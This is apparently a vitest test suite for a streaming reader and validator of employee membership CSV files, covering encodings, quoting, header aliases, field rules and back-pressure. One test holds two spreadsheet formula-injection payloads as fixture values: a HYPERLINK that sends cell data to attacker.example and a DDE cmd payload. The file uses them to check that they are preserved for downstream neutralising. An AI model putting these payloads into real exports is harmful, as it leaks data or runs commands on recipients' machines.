import { createHash } from 'node:crypto';
import { createReadStream, readFileSync } from 'node:fs';
import path from 'node:path';
import { Readable } from 'node:stream';
import { describe, expect, test } from 'vitest';
import { defaultTenant, loadTenantFile, type TenantConfig } from '../src/config/tenant.js';
import { readMembershipFile, type FileHeader, type InvalidRow, type ParsedRow, type ReadOptions, type ReadTotals } from '../src/csv/read.js';
import { SAMPLE_HEADERS } from '../src/fields/fields.js';

const FIXTURES = path.resolve(import.meta.dirname, '../fixtures');
const SAMPLE = path.join(FIXTURES, '10KC Membership File - Your Organization Name - All Active Personnel - 01.13.2023.csv');
const cases = (name: string) => path.join(FIXTURES, 'cases', name);

interface Result {
  header: FileHeader;
  rows: ParsedRow[];
  invalid: InvalidRow[];
  totals: ReadTotals;
  batchSizes: number[];
}

async function collect(input: Readable, tenant: TenantConfig = defaultTenant(), options?: ReadOptions): Promise<Result> {
  const reading = readMembershipFile(input, tenant, options);
  const header = await reading.header;
  const rows: ParsedRow[] = [];
  const invalid: InvalidRow[] = [];
  const batchSizes: number[] = [];
  for await (const batch of reading.batches) {
    rows.push(...batch.rows);
    invalid.push(...batch.invalid);
    batchSizes.push(batch.rows.length + batch.invalid.length);
  }
  return { header, rows, invalid, totals: await reading.totals, batchSizes };
}

const readFixture = (file: string, tenant?: TenantConfig, options?: ReadOptions) => collect(createReadStream(file), tenant, options);
const fromText = (text: string | Buffer, tenant?: TenantConfig, options?: ReadOptions) =>
  collect(Readable.from([typeof text === 'string' ? Buffer.from(text) : text]), tenant, options);
/** The same bytes, one byte per chunk: every split point of a multi-byte character, a CRLF and a BOM. */
const byteByByte = (bytes: Buffer, tenant?: TenantConfig, options?: ReadOptions) =>
  collect(Readable.from((function* () { for (const b of bytes) yield Buffer.from([b]); })()), tenant, options);
const sha256 = (file: string) => createHash('sha256').update(readFileSync(file)).digest('hex');

/** The single issue of the single invalid row. */
function onlyIssue(result: Result) {
  expect(result.totals.fatal).toBeUndefined();
  expect(result.invalid).toHaveLength(1);
  expect(result.invalid[0]!.issues).toHaveLength(1);
  return result.invalid[0]!.issues[0]!;
}

describe('the valid sample in the seeds format', () => {
  test('reads every row as valid, with canonical columns in file order', async () => {
    const result = await readFixture(SAMPLE);
    expect(result.totals.fatal).toBeUndefined();
    expect(result.header.warnings).toEqual([]);
    expect(result.header.columns).toEqual([
      'first_name', 'last_name', 'email', 'employee_id', 'program_eligibility', 'status', 'job_function',
      'hire_start_date', 'business_unit', 'office_location', 'people_manager_status', 'high_potential_status',
      'gender', 'first_level_supervisor', 'second_level_supervisor', 'third_level_supervisor', 'locale',
      'most_recent_role_start_date', 'role_reason_change_code',
    ]);
    expect(result.invalid).toEqual([]);
    expect(result.rows).toHaveLength(30);
    expect(result.totals.records).toBe(30);
    expect(result.rows.map((r) => r.line)).toEqual(Array.from({ length: 30 }, (_, i) => i + 2));
    expect(result.rows[0]!.values).toMatchObject({ first_name: 'Olivia', email: 'olivia.martin@example.com', status: 'active', locale: 'fr-CA' });
    expect(Object.keys(result.rows[0]!.values)).toHaveLength(19);
    expect(result.rows.filter((r) => r.values.status === 'inactive')).toHaveLength(2);
    expect(result.rows.filter((r) => r.values.program_eligibility === 'ineligible')).toHaveLength(1);
    expect(new Set(result.rows.map((r) => r.values.locale))).toEqual(new Set(['en-US', 'fr-CA', 'es-ES', 'ko', 'ja']));
  });

  test('uses the 19 display headers of the seeds', () => {
    const firstLine = readFileSync(SAMPLE, 'utf8').split('\n')[0];
    expect(firstLine).toBe(SAMPLE_HEADERS.join(','));
  });

  test('totals carry the sha256 and size of the raw bytes', async () => {
    const result = await readFixture(SAMPLE);
    expect(result.totals.sha256).toBe(sha256(SAMPLE));
    expect(result.totals.bytes).toBe(readFileSync(SAMPLE).length);
  });

  test('a blank locale becomes en-US', async () => {
    const result = await readFixture(SAMPLE);
    const amelia = result.rows.find((r) => r.values.first_name === 'Amelia')!;
    expect(amelia.values.locale).toBe('en-US');
  });

  test('batches hold at most batchSize records', async () => {
    const result = await readFixture(SAMPLE, undefined, { batchSize: 7 });
    expect(result.batchSizes).toEqual([7, 7, 7, 7, 2]);
  });
});

describe('encoding and layout', () => {
  test('a UTF-8 BOM is accepted, stripped from the first header, and part of the hash', async () => {
    const file = cases('bom.csv');
    const result = await readFixture(file);
    expect(result.totals.fatal).toBeUndefined();
    expect(result.header.columns[0]).toBe('first_name');
    expect(result.rows).toHaveLength(3);
    expect(readFileSync(file).subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
    expect(result.totals.sha256).toBe(sha256(file));
  });

  test('CRLF line endings give the same values as LF', async () => {
    const crlf = await readFixture(cases('crlf.csv'));
    const lf = await readFixture(cases('bom.csv'));
    expect(crlf.rows).toEqual(lf.rows);
  });

  test('quoted commas, quotes and newlines stay inside their value; lines are where records start', async () => {
    for (const name of ['quoted-commas-newlines.csv', 'quoted-newlines-crlf.csv']) {
      const result = await readFixture(cases(name));
      expect(result.totals.fatal).toBeUndefined();
      expect(result.rows.map((r) => r.line)).toEqual([2, 3, 5]);
      expect(result.rows[0]!.values.business_unit).toBe('Research, Development & Design');
      expect(result.rows[1]!.values.office_location).toMatch(/^Suite 400\r?\n123 Front St W, Toronto$/);
      expect(result.rows[2]!.values.last_name).toBe('O"Neil');
    }
  });

  test('non-ASCII names are read intact', async () => {
    const result = await readFixture(cases('non-ascii-names.csv'));
    expect(result.invalid).toEqual([]);
    expect(result.rows.map((r) => `${r.values.first_name} ${r.values.last_name}`)).toEqual([
      'José Núñez', 'Zoë Ørsted', '민준 김', '太郎 山田', 'Thảo Nguyễn', 'Aoife Ó Briain',
    ]);
  });

  test('every split point of multi-byte characters, CRLF and BOM across chunks reads the same', async () => {
    const bytes = Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), readFileSync(cases('non-ascii-names.csv'))]);
    const whole = await fromText(bytes);
    const split = await byteByByte(bytes);
    expect(split.rows).toEqual(whole.rows);
    expect(split.totals).toEqual(whole.totals);
    const crlf = readFileSync(cases('quoted-newlines-crlf.csv'));
    expect((await byteByByte(crlf)).rows).toEqual((await fromText(crlf)).rows);
  });

  test('Latin-1 bytes are a fatal error naming the line and the byte', async () => {
    const file = cases('latin1.csv');
    const result = await readFixture(file);
    expect(result.totals.fatal).toMatchObject({ line: 3, value: '0xE9' });
    expect(result.totals.fatal!.message).toContain('not valid UTF-8');
    expect(result.totals.fatal!.message).toContain('line 3');
    expect(result.totals.fatal!.message).toContain('Latin-1');
    // the hash still covers the whole file
    expect(result.totals.sha256).toBe(sha256(file));
    expect(result.totals.bytes).toBe(readFileSync(file).length);
  });

  test('a bad byte in a later chunk reports its line', async () => {
    const good = readFileSync(SAMPLE);
    const bad = Buffer.concat([good, Buffer.from('Ann,Lee,ann.lee@example.com,E1,eligible,active,,,,,,,,,,,en-US,,\n'), Buffer.from([0x41, 0xff, 0x0a])]);
    const result = await collect(Readable.from([bad.subarray(0, 100), bad.subarray(100, 2000), bad.subarray(2000)]));
    expect(result.totals.fatal).toMatchObject({ line: 33, value: '0xFF' });
  });

  test('UTF-16 files and Excel workbooks are rejected with a message that says what they are', async () => {
    const bom = await readFixture(cases('utf16le-bom.csv'));
    expect(bom.totals.fatal).toMatchObject({ line: 1, message: 'the file is UTF-16 encoded: save it as CSV UTF-8' });
    const noBom = await readFixture(cases('utf16le-no-bom.csv'));
    expect(noBom.totals.fatal).toMatchObject({ line: 1, value: '0x00' });
    expect(noBom.totals.fatal!.message).toContain('UTF-16');
    const xlsx = await readFixture(cases('excel-workbook-renamed.csv'));
    expect(xlsx.totals.fatal?.message).toContain('Excel workbook (.xlsx), not CSV');
    expect(xlsx.rows).toEqual([]);
  });

  test('a NUL byte later in the file names its line', async () => {
    const result = await fromText('First Name,Last Name,Email\nA,B,a@example.com\nC\u0000,D,c@example.com\n');
    expect(result.totals.fatal).toMatchObject({ line: 3, value: '0x00' });
  });

  test('a file that ends inside a multi-byte character is rejected', async () => {
    const result = await readFixture(cases('truncated-utf8.csv'));
    expect(result.totals.fatal?.message).toContain('ends inside a multi-byte character');
    expect(result.totals.fatal?.line).toBe(3);
  });

  test('completely blank lines and lines of separators only are skipped; line numbers stay physical', async () => {
    const result = await readFixture(cases('blank-lines.csv'));
    expect(result.totals.fatal).toBeUndefined();
    expect(result.invalid).toEqual([]);
    expect(result.rows.map((r) => r.line)).toEqual([2, 4, 7]);
    expect(result.totals.records).toBe(3);
  });

  test('a last line without a newline is read', async () => {
    const result = await readFixture(cases('no-trailing-newline.csv'));
    expect(result.rows).toHaveLength(3);
    expect(result.rows[2]!.values.role_reason_change_code).toBe('New Hire');
  });

  test('CR-only line endings are rejected with a clear message', async () => {
    const result = await readFixture(cases('cr-line-endings.csv'));
    expect(result.totals.fatal?.message).toContain('carriage return only');
    expect(result.rows).toEqual([]);
    // a big CR-only file is one giant "header" record: the size cap names the real cause too
    const big = 'First Name,Last Name,Email\r' + 'Ann,Lee,ann@example.com\r'.repeat(2000);
    const capped = await fromText(big, undefined, { maxRecordBytes: 4096 });
    expect(capped.totals.fatal?.message).toContain('carriage return only');
  });

  test('a blank first line is fatal: the header must be on line 1', async () => {
    const result = await readFixture(cases('blank-first-line.csv'));
    expect(result.totals.fatal).toMatchObject({ line: 1 });
    expect(result.totals.fatal!.message).toContain('the first line must be the header row');
    expect(result.totals.records).toBe(0);
  });

  test('an empty file is fatal; a header-only file has no records and no fatal', async () => {
    const empty = await readFixture(cases('empty.csv'));
    expect(empty.totals.fatal?.message).toContain('the file is empty');
    expect(empty.header).toEqual({ columns: [], warnings: [] });
    expect(empty.totals.sha256).toBe(createHash('sha256').digest('hex'));
    const headerOnly = await readFixture(cases('header-only.csv'));
    expect(headerOnly.totals).toMatchObject({ records: 0 });
    expect(headerOnly.totals.fatal).toBeUndefined();
    expect(headerOnly.header.columns).toHaveLength(19);
  });
});

describe('quoting and record size', () => {
  test('a quote inside an unquoted value is fatal with its line and column', async () => {
    const result = await readFixture(cases('quote-inside-unquoted-value.csv'));
    expect(result.totals.fatal).toMatchObject({ line: 3, column: 'First Name' });
    expect(result.totals.fatal!.message).toContain('broken quoting');
    expect(result.totals.fatal!.message).toContain('line 3');
  });

  test('text after a closing quote is fatal with its line', async () => {
    const result = await readFixture(cases('text-after-closing-quote.csv'));
    expect(result.totals.fatal).toMatchObject({ line: 3, column: 'Job Function' });
    expect(result.totals.fatal!.message).toContain('closing quote');
  });

  test('an unclosed quote is fatal, naming the line where the record starts', async () => {
    const result = await readFixture(cases('unclosed-quote.csv'));
    expect(result.totals.fatal?.line).toBe(3);
    expect(result.totals.fatal!.message).toContain('never closed');
  });

  test('a record over the size cap is fatal, naming its line (default cap 1 MiB)', async () => {
    const file = cases('too-large-record.csv');
    const result = await readFixture(file);
    expect(result.totals.fatal?.line).toBe(3);
    expect(result.totals.fatal!.message).toContain(`larger than ${1024 * 1024} bytes`);
    expect(result.totals.sha256).toBe(sha256(file));
    const small = await readFixture(cases('quoted-commas-newlines.csv'), undefined, { maxRecordBytes: 200 });
    expect(small.totals.fatal?.message).toContain('larger than 200 bytes');
    expect(small.totals.fatal?.line).toBe(1); // the 19 headers alone are over 200 bytes
  });

  test('an unclosed quote in a big file hits the cap instead of buffering the rest', async () => {
    const lines = ['First Name,Last Name,Email', 'A,B,"a@example.com'];
    for (let i = 0; i < 5000; i++) lines.push(`C${i},D,c${i}@example.com`);
    const result = await fromText(lines.join('\n'), undefined, { maxRecordBytes: 4096 });
    expect(result.totals.fatal?.line).toBe(2);
    expect(result.totals.fatal!.message).toContain('unclosed quote');
  });
});

describe('header mapping', () => {
  test('a missing required column is fatal, naming it and listing the headers found', async () => {
    const result = await readFixture(cases('missing-required-column.csv'));
    expect(result.totals.fatal).toMatchObject({ line: 1, column: 'email' });
    expect(result.totals.fatal!.message).toContain('missing required column email ("Email Address")');
    expect(result.totals.fatal!.message).toContain('"First Name", "Last Name", "Employee ID"');
    expect(result.rows).toEqual([]);
    expect(result.totals.records).toBe(0);
  });

  test('two columns for one field are fatal', async () => {
    const result = await readFixture(cases('two-columns-one-field.csv'));
    expect(result.totals.fatal?.message).toContain('columns "Email Address" and "Email" both map to email');
  });

  test('the seeds aliases map to canonical fields', async () => {
    const result = await readFixture(cases('aliases.csv'));
    expect(result.totals.fatal).toBeUndefined();
    expect(result.header.warnings).toEqual([]);
    expect(result.header.columns).toEqual(expect.arrayContaining(['email', 'employee_id', 'status', 'job_function', 'business_unit', 'locale']));
    expect(result.rows[0]!.values).toMatchObject({ email: 'olivia.martin@example.com', employee_id: 'E10231', status: 'active', job_function: 'Engineering', business_unit: 'Technology' });
  });

  test("the tenant's column map wins; custom segments are read; unknown columns are warnings", async () => {
    const tenant = await loadTenantFile(path.join(FIXTURES, 'tenants/mapped.yaml'));
    const result = await readFixture(cases('tenant-mapped-headers.csv'), tenant);
    expect(result.totals.fatal).toBeUndefined();
    expect(result.header.columns).toEqual(['first_name', 'last_name', 'email', 'employee_id', 'status', 'cost_center']);
    expect(result.header.warnings).toEqual([expect.stringMatching(/^unknown column "Badge Color" \(column \d+, ignored\)/)]);
    expect(result.rows[1]!.values).toEqual({
      first_name: 'Liam', last_name: 'Tremblay', email: 'liam.tremblay@example.com', employee_id: 'E10238', status: 'active', cost_center: 'CC-200',
    });
    // without the tenant, the same file misses its required columns
    const plain = await readFixture(cases('tenant-mapped-headers.csv'));
    expect(plain.totals.fatal?.message).toContain('missing required columns first_name ("First Name"), last_name ("Last Name"), email ("Email Address")');
  });

  test('an unknown column is ignored with a warning and its values are not read', async () => {
    const result = await readFixture(cases('unknown-column.csv'));
    expect(result.header.warnings).toEqual([expect.stringContaining('"Badge Color"')]);
    expect(result.rows).toHaveLength(3);
    expect(result.rows[0]!.values).not.toHaveProperty('badge_color');
  });
});

describe('value rules (each issue: line, column as in the file, value, message)', () => {
  test('email must be a valid address', async () => {
    const issue = onlyIssue(await readFixture(cases('invalid-email.csv')));
    expect(issue).toMatchObject({ line: 3, column: 'Email Address', value: 'liam.tremblay at example.com' });
    expect(issue.message).toContain('not a valid email address');
    expect(issue.message).toContain('space');
    const noTld = onlyIssue(await readFixture(cases('invalid-email-no-domain.csv')));
    expect(noTld.value).toBe('liam.tremblay@example');
  });

  test('a formula in an email cell is rejected with a hint', async () => {
    const issue = onlyIssue(await readFixture(cases('formula-in-email.csv')));
    expect(issue.message).toContain('spreadsheet formula');
  });

  test('program_eligibility must be eligible or ineligible', async () => {
    const issue = onlyIssue(await readFixture(cases('invalid-program-eligibility.csv')));
    expect(issue).toMatchObject({ line: 3, column: 'Program Eligibility', value: 'maybe' });
    expect(issue.message).toContain('"eligible" or "ineligible"');
  });

  test('status is case-sensitive and the error says so', async () => {
    const issue = onlyIssue(await readFixture(cases('invalid-status-case.csv')));
    expect(issue).toMatchObject({ line: 3, column: 'Status', value: 'Active' });
    expect(issue.message).toContain('case-sensitive');
    expect(issue.message).toContain('use "active"');
    const other = onlyIssue(await readFixture(cases('invalid-status.csv')));
    expect(other).toMatchObject({ value: 'on leave' });
    expect(other.message).toContain('"active" or "inactive"');
  });

  test('yes/no fields accept any case, normalised to lower case; other values are issues', async () => {
    const issue = onlyIssue(await readFixture(cases('invalid-yes-no.csv')));
    expect(issue).toMatchObject({ column: 'People Manager Status', value: 'Y' });
    const normalised = await readFixture(cases('normalised-values.csv'));
    expect(normalised.invalid).toEqual([]);
    expect(normalised.rows[1]!.values.people_manager_status).toBe('yes');
    expect(normalised.rows[2]!.values.high_potential_status).toBe('no');
    expect(normalised.rows[0]!.values.program_eligibility).toBe('eligible');
    expect(normalised.rows[0]!.values.locale).toBe('en-US');
    expect(normalised.rows[2]!.values.job_function).toBe('Engineering');
  });

  test('dates must be real calendar dates in MM/DD/YYYY', async () => {
    const iso = onlyIssue(await readFixture(cases('invalid-date-format-iso.csv')));
    expect(iso).toMatchObject({ column: 'Hire Start Date', value: '2023-01-13' });
    expect(iso.message).toContain('MM/DD/YYYY');
    expect(iso.message).toContain('YYYY-MM-DD');
    const single = onlyIssue(await readFixture(cases('invalid-date-single-digits.csv')));
    expect(single.message).toContain('two digits');
    const notReal = onlyIssue(await readFixture(cases('invalid-date-not-calendar.csv')));
    expect(notReal).toMatchObject({ column: 'Most Recent Role Start Date', value: '02/30/2023' });
    expect(notReal.message).toContain('not a calendar date');
  });

  test('locale must be one of the supported locales', async () => {
    const issue = onlyIssue(await readFixture(cases('invalid-locale.csv')));
    expect(issue).toMatchObject({ column: 'Locale', value: 'de-DE' });
    expect(issue.message).toContain('en-US, fr-CA, es-ES, ko, ja');
  });

  test('required fields must not be blank (whitespace counts as blank)', async () => {
    const issue = onlyIssue(await readFixture(cases('blank-required-first-name.csv')));
    expect(issue).toMatchObject({ line: 3, column: 'First Name', value: '' });
    expect(issue.message).toContain('required');
  });

  test('a value outside the tenant data-mapping table is a new segment value (case-sensitive)', async () => {
    const tenant = await loadTenantFile(path.join(FIXTURES, 'tenants/segments.yaml'));
    const result = await readFixture(cases('new-segment-value.csv'), tenant);
    expect(result.rows.map((r) => r.line)).toEqual([2]);
    const [data, tech] = result.invalid.map((r) => r.issues[0]!);
    expect(data).toMatchObject({ line: 3, column: 'Job Function', value: 'Data Science' });
    expect(data!.message).toBe('new segment value "Data Science" for job_function: add it to the hub before upload');
    expect(tech).toMatchObject({ line: 4, column: 'Business Unit', value: 'technology' });
    expect(tech!.message).toContain('the hub has "Technology"');
    // without a data-mapping table any text is accepted
    expect((await readFixture(cases('new-segment-value.csv'))).invalid).toEqual([]);
  });

  test('an invalid row keeps its trimmed values so the engine can find the member', async () => {
    const result = await readFixture(cases('invalid-status-case.csv'));
    expect(result.invalid[0]!.values).toMatchObject({ email: 'liam.tremblay@example.com', employee_id: 'E10238', status: 'Active' });
    expect(result.rows).toHaveLength(2);
    expect(result.totals.records).toBe(3);
  });

  test('a row can carry several issues', async () => {
    const text = 'First Name,Last Name,Email,Status,Hire Start Date\n,Lee,nope,Active,13/01/2023\n';
    const result = await fromText(text);
    expect(result.invalid[0]!.issues.map((i) => i.column)).toEqual(['First Name', 'Email', 'Status', 'Hire Start Date']);
    expect(result.invalid[0]!.issues[3]!.message).toContain('DD/MM/YYYY');
  });

  test('a row with the wrong number of cells is an issue, not a failure of the file', async () => {
    const result = await readFixture(cases('wrong-cell-count.csv'));
    expect(result.totals.fatal).toBeUndefined();
    expect(result.rows.map((r) => r.line)).toEqual([2]);
    expect(result.invalid.map((r) => [r.line, r.issues[0]!.message])).toEqual([
      [3, expect.stringContaining('expected 19 cells (one per header column), found 18')],
      [4, expect.stringContaining('expected 19 cells (one per header column), found 20')],
    ]);
    expect(result.invalid[0]!.values.email).toBe('liam.tremblay@example.com');
  });

  test('formula-looking text is kept as given (outputs neutralise it)', async () => {
    const result = await readFixture(cases('formula-cells.csv'));
    expect(result.invalid).toEqual([]);
    expect(result.rows[0]!.values.job_function).toBe('=HYPERLINK("http://attacker.example/?x="&A1,"Click")');
    expect(result.rows[1]!.values.business_unit).toBe("+cmd|' /C calc'!A0");
  });

  test('duplicate emails and employee ids pass the reader (the engine checks uniqueness)', async () => {
    for (const name of ['duplicate-emails.csv', 'duplicate-employee-ids.csv']) {
      const result = await readFixture(cases(name));
      expect(result.invalid).toEqual([]);
      expect(result.rows).toHaveLength(3);
    }
  });
});

describe('streaming behaviour', () => {
  test('multi-byte characters survive any cut of big input chunks (the reader feeds its parser in 64 KiB slices)', async () => {
    const names = ['Benoît', 'Núñez', '김민준', 'Zoë 🙂'];
    let text = 'First Name,Last Name,Email\n';
    const expected: string[] = [];
    for (let i = 0; text.length < 300_000; i++) {
      const first = names[i % names.length]!;
      expected.push(first);
      text += `${first},Lee,p${i}@example.com\n`;
    }
    const bytes = Buffer.from(text);
    // chunks of 65,537 + k bytes (k = 0..3) against slices of 65,536: every offset of a character gets cut
    for (let k = 0; k < 4; k++) {
      const size = 65_537 + k;
      const chunks: Buffer[] = [];
      for (let at = 0; at < bytes.length; at += size) chunks.push(bytes.subarray(at, at + size));
      const result = await collect(Readable.from(chunks));
      expect(result.totals.fatal).toBeUndefined();
      expect(result.rows.map((r) => r.values.first_name)).toEqual(expected);
    }
  });

  test('header resolves before any batch is pulled', async () => {
    const reading = readMembershipFile(createReadStream(SAMPLE), defaultTenant());
    const header = await reading.header;
    expect(header.columns).toHaveLength(19);
    let count = 0;
    for await (const batch of reading.batches) count += batch.rows.length;
    expect(count).toBe(30);
  });

  test('input is pulled only as batches are consumed (back-pressure)', async () => {
    let produced = 0;
    const rowsPerChunk = 100;
    function* chunks() {
      yield Buffer.from('First Name,Last Name,Email\n');
      for (let c = 0; c < 1000; c++) {
        let text = '';
        for (let i = 0; i < rowsPerChunk; i++) text += `A${c},B,a${c}x${i}@example.com\n`;
        produced++;
        yield Buffer.from(text);
      }
    }
    const reading = readMembershipFile(Readable.from(chunks(), { highWaterMark: 1 }), defaultTenant(), { batchSize: 100 });
    const iterator = reading.batches[Symbol.asyncIterator]();
    await iterator.next();
    await iterator.next();
    await new Promise((resolve) => setTimeout(resolve, 50));
    expect(produced).toBeLessThan(20);
    await iterator.return!();
    const totals = await reading.totals;
    expect(totals.fatal?.message).toContain('reading stopped before the end of the file');
  });

  test('an I/O error of the input rejects the batches and the totals', async () => {
    const input = new Readable({ read() {} });
    input.push(Buffer.from('First Name,Last Name,Email\nA,B,a@example.com\n'));
    setTimeout(() => input.destroy(new Error('connection reset')), 10);
    const reading = readMembershipFile(input, defaultTenant());
    await expect(async () => {
      for await (const _ of reading.batches) void _;
    }).rejects.toThrow('connection reset');
    await expect(reading.totals).rejects.toThrow('connection reset');
  });

  test('string chunks are accepted', async () => {
    const result = await collect(Readable.from(['First Name,Last Name,Email\n', 'Zoë,B,z@example.com\n']));
    expect(result.rows[0]!.values.first_name).toBe('Zoë');
  });
});
